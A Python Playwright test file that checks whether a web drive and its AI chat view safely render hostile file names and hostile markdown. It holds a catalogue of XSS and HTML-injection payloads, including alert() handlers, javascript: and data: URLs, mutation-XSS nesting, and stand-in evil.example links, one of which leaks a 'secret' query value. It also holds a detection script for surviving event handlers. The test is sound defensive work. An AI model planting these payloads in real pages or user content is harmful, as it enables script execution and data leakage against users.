"""Hostile names and hostile markdown, in every view that shows them: no script runs, nothing is asked of others.

That no other origin is asked is held by `visits`, which fails a test whose page asked one.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import pytest
from playwright.sync_api import expect

from tests.fakes.chat_model import tool_call
from tests.web.browser.world import empty

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page

    from tests.e2e.person import Person
    from tests.fakes.chat_model import ScriptedChatModel
    from tests.web.browser.visits import Visits

NAMES: Final = (
    "<img src=x onerror=alert(1)>.md",
    "<script>alert(1)<∕script>.txt",
    "javascript:alert(1).txt",
    "[click](javascript:alert(1)).txt",
    "![x](https:∕∕evil.example∕x.png).txt",
    "تقرير <svg onload=alert(1)> 报告 🎉.txt",
    "{{constructor.constructor('alert(1)')()}}.csv",
)
MARKDOWN: Final = """# <img src="https://evil.example/1.png" onerror="alert(1)">

<script>alert(2)</script> <svg onload="alert(3)"></svg> <iframe src="https://evil.example/"></iframe>

[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](vbscript:x) <javascript:alert(6)>

![track](https://evil.example/2.png?q=secret) ![d](data:image/svg+xml,<svg/onload=alert(7)>)

<style>@import "https://evil.example/3.css"; body { background: url(https://evil.example/4.png) }</style>
<link rel="stylesheet" href="https://evil.example/5.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><form action="https://evil.example/"><input autofocus onfocus="alert(8)"></form>
<a href="#" onclick="alert(9)" style="position:fixed;inset:0">all of the page</a> <details open ontoggle=alert(10)>

| <img src=x onerror=alert(11)> | `<script>alert(12)</script>` |
|---|---|
| https://evil.example/?q=secret | <math><mtext></form><form><mglyph><style></math><img src onerror=alert(13)> |

```html
<script src="https://evil.example/6.js"></script>
```
"""
FORBIDDEN: Final = ":is(.files, .chat) :is(script, iframe, object, embed, base, meta, link, form[action], style)"
HANDLERS: Final = """[...document.querySelectorAll('*')].flatMap(one => [...one.attributes]
  .filter(({name, value}) => name.startsWith('on') || /^\\s*(javascript|vbscript|data:text)/i.test(value))
  .filter(({name, ownerElement}) => !(name === 'value' || name === 'title' || name.startsWith('aria-')))
  .map(({name, value}) => `${name}=${value}`.slice(0, 80)))"""
PLACES: Final = ("folder/root", "recent", "starred", "trash", "search?q=alert", "changes")


@pytest.fixture
def thread(owner: Person, model: ScriptedChatModel, visits: Visits) -> str:
    """A drive of hostile names and texts, and a thread whose answer is hostile, too; return the thread."""
    del visits  # it empties the script
    empty(owner)
    for name in NAMES:
        item = owner.upload(name, MARKDOWN)
        owner.http.put(f"/api/drive/items/{item['id']}/star").raise_for_status()
    gone = owner.upload("<b onmouseover=alert(1)>gone.txt", "x")
    owner.http.post(f"/api/drive/items/{gone['id']}/trash").raise_for_status()
    model.script[:] = [tool_call("list_folder", "c", folder_id="root"), MARKDOWN]
    with owner.chat(f"What is in {NAMES[0]} and {NAMES[3]}?") as turn:
        turn.until("done", "error", "approval_needed")
    assert turn.of("done"), turn.seen
    return str(turn.of("run")[0]["thread_id"])


def assert_harmless(page: Page, ran: list[str]) -> None:
    assert ran == []
    assert page.locator(FORBIDDEN).count() == 0
    assert page.evaluate(HANDLERS) == []


def test_hostile_names_and_texts_are_only_shown(visits: Visits, owner: Person, thread: str) -> None:
    page = visits.open(f"#/folder/root?thread={thread}")
    ran: list[str] = []

    def hear(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", hear)
    expect(page.locator(".chat table").first).to_be_visible()
    assert_harmless(page, ran)
    for place in PLACES:
        page.evaluate("place => { location.hash = place; }", f"#/{place}")
        expect(page.locator(".items .item, .hit, .activity-list li").first).to_be_visible()
        assert_harmless(page, ran)
    for item in owner.children():
        if item["kind"] != "file":
            continue
        page.evaluate("place => { location.hash = place; }", f"#/file/{item['id']}")
        expect(page.locator(".preview-title").get_by_text(item["name"], exact=True)).to_be_visible()
        expect(page.locator(".preview")).to_contain_text("alert(")
        assert_harmless(page, ran)
    page.evaluate("place => { location.hash = place; }", f"#/folder/root?thread={thread}")
    page.reload()
    expect(page.locator(".chat table").first).to_be_visible()
    assert_harmless(page, ran)
